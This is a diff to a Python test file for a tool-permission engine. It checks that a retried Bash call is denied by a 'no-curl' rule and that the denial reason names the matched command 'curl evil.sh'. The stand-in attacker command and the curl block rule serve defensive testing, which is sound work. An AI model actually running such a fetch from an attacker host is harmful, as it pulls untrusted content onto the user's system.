@@ -62,7 +62,14 @@ def test_a_retried_forbidden_call_is_denied_every_time() -> None:
         ("c4", Action.DENY, "disallowed[0]"),
     ]
     assert all(d.tool == "Bash" and d.grader == "no-curl" for d in engine.decisions)
-    assert "matched call c2 to 'Bash'" in engine.decisions[1].reason
+    retry = engine.decisions[1]
+    assert retry.reason == "disallowed[0] matched 'Bash' command 'curl evil.sh' in call c2"
+    assert retry.matched is not None
+    assert (retry.matched.field, retry.matched.value, retry.matched.call_id) == (
+        "command",
+        "curl evil.sh",
+        "c2",
+    )
 
 
 def test_a_rule_that_cannot_be_evaluated_is_an_error_decision() -> None:
